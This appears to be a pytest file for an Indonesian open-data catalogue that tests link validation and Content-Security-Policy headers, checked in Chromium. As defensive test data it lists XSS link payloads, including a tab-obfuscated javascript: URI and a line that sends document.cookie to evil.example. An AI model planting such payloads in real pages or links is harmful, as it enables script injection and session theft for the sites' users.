"""Links and security headers (issue 12 item 3).

Only http(s) and mailto addresses become links: a `javascript:` address in a descriptor, the
vocabulary or harvested CKAN metadata fails with a message naming file and key. Every answer of
`publish.py serve` carries a Content-Security-Policy that runs no inline script without its hash,
`X-Content-Type-Options: nosniff` and `frame-ancestors 'none'`; real Chromium shows that the pages
still work under it and that an injected inline script is refused.
"""

from __future__ import annotations

import base64
import hashlib
import re

import httpx
import pytest
import yaml
from conftest import publish_in
from harvest.test_ckan_harvest import portal, project, run  # noqa: F401 (fixtures)
from playwright.sync_api import sync_playwright

CHROMIUM = "/usr/bin/chromium"
BAD_LINKS = [
    "javascript:alert(document.domain)",
    "JavaScript:alert(1)",
    "java\tscript:alert(1)",  # browsers drop the tab and run it
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
MESSAGE = "alamat tautan harus http(s) atau mailto, bukan {v!r} / a link address must be " \
    "http(s) or mailto, not {v!r}"  # fmt: skip


def edit_yaml(path, change) -> None:
    data = yaml.safe_load(path.read_text())
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))


# --- links from descriptors and the vocabulary ----------------------------------------------------


@pytest.mark.parametrize("bad", BAD_LINKS)
def test_a_publisher_url_that_is_not_http_fails_naming_file_and_key(copy_project, bad):
    publishers = copy_project / "metadata/publishers.yaml"
    edit_yaml(publishers, lambda d: d["pemkot-bogor"].update(url=bad))
    result = publish_in(copy_project, "validate", "-q")
    assert result.returncode == 2
    assert f"{publishers}: pemkot-bogor.url: {MESSAGE.format(v=bad)}" in result.stderr


def test_a_source_path_and_a_licence_path_are_checked_too(copy_project):
    descriptor = copy_project / "datasets/penduduk-kota-bogor/datapackage.yaml"
    edit_yaml(descriptor, lambda d: d["sources"][0].update(path="javascript:alert(1)"))
    result = publish_in(copy_project, "validate", "-q")
    assert result.returncode == 2
    assert f"{descriptor}: sources[0].path: {MESSAGE.format(v='javascript:alert(1)')}" in (
        result.stderr
    )

    edit_yaml(descriptor, lambda d: d["sources"][0].update(path="data/penduduk.csv"))
    licences = copy_project / "metadata/licences.yaml"
    edit_yaml(licences, lambda d: d["CC-BY-4.0"].update(path="javascript:alert(2)"))
    result = publish_in(copy_project, "validate", "-q")
    assert result.returncode == 2
    assert f"{licences}: CC-BY-4.0.path: {MESSAGE.format(v='javascript:alert(2)')}" in (
        result.stderr
    )


def test_http_mailto_and_a_relative_source_path_are_accepted(copy_project):
    descriptor = copy_project / "datasets/penduduk-kota-bogor/datapackage.yaml"
    edit_yaml(descriptor, lambda d: d["sources"][0].update(path="data/penduduk.csv"))
    publishers = copy_project / "metadata/publishers.yaml"
    edit_yaml(publishers, lambda d: d["pemkot-bogor"].update(url="mailto:ppid@kotabogor.go.id"))
    result = publish_in(copy_project, "validate", "-q", "penduduk-kota-bogor")
    assert result.returncode == 0, result.stdout + result.stderr


def test_a_harvested_licence_url_that_is_not_http_fails_that_package(project, portal):  # noqa: F811
    bad = "javascript:fetch('//evil.example/'+document.cookie)"
    portal.packages["kecamatan-kota-bogor"]["license_url"] = bad
    report = run(project, portal, tag="wilayah")
    [failed] = [o for o in report.outcomes if o.id == "kecamatan-kota-bogor"]
    assert failed.status == "failed"
    assert failed.error["kind"] == "bad-link"
    assert failed.message.startswith(f"license_url: {MESSAGE.format(v=bad)}")
    assert report.exit_code == 1
    assert not (project / "datasets/kecamatan-kota-bogor").exists()
    harvested = project / "metadata/harvested/licences.yaml"
    assert not harvested.exists() or "javascript" not in harvested.read_text()


# --- headers --------------------------------------------------------------------------------------

PAGES = [
    "/",  # the static catalog
    "/en/",
    "/dataset/penduduk-kota-bogor/",
    "/reports/penduduk-kota-bogor/penduduk.html",
    "/-/",  # Datasette
    "/jendela",
    "/jendela/penduduk",
    "/jendela/penduduk?_facet=jenis_kelamin",
    "/jendela/-/query?sql=select+1",
    "/-/api",
    "/nope",  # errors too
    "/jendela/penduduk?_facet=nope",
]
OTHER = ["/jendela/penduduk.json", "/api/3/action/package_list", "/-/openapi.json"]
INLINE = re.compile(r"<script([^>]*)>(.*?)</script>", re.S)


def inline_hashes(html: str) -> set[str]:
    return {
        "sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        for attrs, body in INLINE.findall(html)
        if "src=" not in attrs and "ld+json" not in attrs
    }


def directives(policy: str) -> dict[str, list[str]]:
    parts = [p.split() for p in policy.split(";") if p.strip()]
    return {p[0]: p[1:] for p in parts}


@pytest.mark.parametrize("path", PAGES + OTHER)
def test_every_answer_sends_the_policy_nosniff_and_no_framing(datasette_server, path):
    response = httpx.get(datasette_server.url + path, timeout=30)
    assert response.status_code in (200, 400, 404)
    assert response.headers["x-content-type-options"] == "nosniff"
    policy = directives(response.headers["content-security-policy"])
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    script = policy["script-src"]
    assert script[0] == "'self'"
    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:"} & set(script)
    if response.headers["content-type"].startswith("text/html"):
        # Exactly the page's own inline scripts are allowed, each by its hash.
        assert {s.strip("'") for s in script[1:]} == inline_hashes(response.text)


def test_an_inline_script_no_template_writes_gets_no_hash():
    from pipelines.web.security_headers import allowed_hashes, script_hash

    data = 'window._datasetteTableData = {"database": "jendela", "table": "x"};'
    page = (
        f"<script>{data}</script>"
        "<script>alert(document.domain)</script>"
        '<script>window._datasetteTableData = {"a": 1}; alert(1);</script>'
        "<script>window.datasetteVersion = '1'+alert(1)+'';</script>"
    )
    assert allowed_hashes(page) == [script_hash(data)]


@pytest.fixture(scope="module")
def chromium():
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, headless=True, args=["--no-sandbox", "--disable-gpu"]
        )
        yield browser
        browser.close()


def test_pages_work_in_chromium_without_a_policy_violation(chromium, datasette_server):
    context = chromium.new_context()
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda message: console.append(message.text))
    page.add_init_script(
        "window.__violations = [];"
        "document.addEventListener('securitypolicyviolation', e => "
        "window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    try:
        for path in PAGES:
            page.goto(datasette_server.url + path)
            page.wait_for_load_state("load")
            assert page.evaluate("window.__violations") == [], path
        # Our inline script ran: Datasette's column menu is in Bahasa Indonesia first.
        page.goto(datasette_server.url + "/jendela/penduduk")
        page.click('th[data-column="jenis_kelamin"] svg')
        assert "Urutkan naik" in page.inner_text(".dropdown-menu")
        assert "Sort ascending" not in page.inner_text(".dropdown-menu")
        assert not [m for m in console if "Content Security Policy" in m]
        # The policy is enforced: a script put into the page is refused and reported.
        page.evaluate(
            "() => { const s = document.createElement('script');"
            " s.textContent = 'window.__ran = 1'; document.body.appendChild(s); }"
        )
        page.wait_for_function("window.__violations.length > 0")
        assert page.evaluate("window.__ran") is None
        assert page.evaluate("window.__violations")[0].startswith("script-src")
    finally:
        context.close()
